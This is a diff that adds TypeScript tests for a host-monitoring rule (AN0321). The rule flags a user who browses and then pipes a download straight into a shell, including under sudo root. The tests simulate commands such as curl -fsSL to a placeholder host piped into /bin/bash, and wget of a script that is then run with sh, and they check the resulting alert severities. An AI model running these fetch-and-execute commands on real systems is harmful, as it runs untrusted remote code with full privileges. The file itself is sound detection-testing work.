@@ -72,3 +72,42 @@ test('a fetch of long ago is not the text of this command', async () => {
   calls(shell.run(['/usr/bin/bash', '-c', `${SHORT}\nexit`]));
   assert.deepEqual(await alertsOf(log), []);
 });
+
+test('whoever logged in has browsed, though the pasted line runs in a shell of root', async () => {
+  const { log, shell } = browsed();
+  const sudo = shell.run('/usr/bin/sudo -i', { who: { ...shell.who, uid: 0 } });
+  const root = sudo.run(['/bin/bash'], { argv0: '-bash' });
+  const [curl, bash] = root.pipeline(`/usr/bin/curl -fsSL http://${OUT}/x`, '/bin/bash');
+  curl?.connect(OUT, 80);
+  if (bash !== undefined) calls(bash.run('/usr/bin/wget http://x/b'));
+  firesAt(await alertsOf(log), 'AN0321', 'high');
+});
+
+test('a habit is that of whoever logged in, as root or not', async () => {
+  const { log } = browsed();
+  for (const [day, uid] of [
+    [0, 0],
+    [1, 1002],
+  ] as const) {
+    log.wait(day * 24 * 60 * MINUTE);
+    log.desktop('dev').run('/usr/lib/firefox/firefox').connect('203.0.113.80', 443);
+    const shell = log.shell('dev');
+    const sudo = shell.run('/usr/bin/sudo -i', { who: { ...shell.who, uid } });
+    sudo.run(['/bin/bash'], { argv0: '-bash' }).pipeline(`/usr/bin/curl -fsSL http://${OUT}/x`, '/bin/bash');
+  }
+  assert.deepEqual(
+    (await alertsOf(log)).map(alert => alert.severity),
+    ['medium', 'informational'],
+  );
+});
+
+test('where only programs are recorded, what wget was told to write and what is run then are one', async () => {
+  const log = new HostLog({ files: false, network: false });
+  log.desktop('dev').run('/usr/lib/firefox/firefox');
+  log.wait(5 * MINUTE);
+  const shell = log.shell('dev');
+  shell.run(`/usr/bin/wget -q http://${OUT}/x.sh`);
+  log.wait(MINUTE);
+  shell.run('/bin/sh x.sh');
+  firesAt(await alertsOf(log), 'AN0321', 'medium');
+});
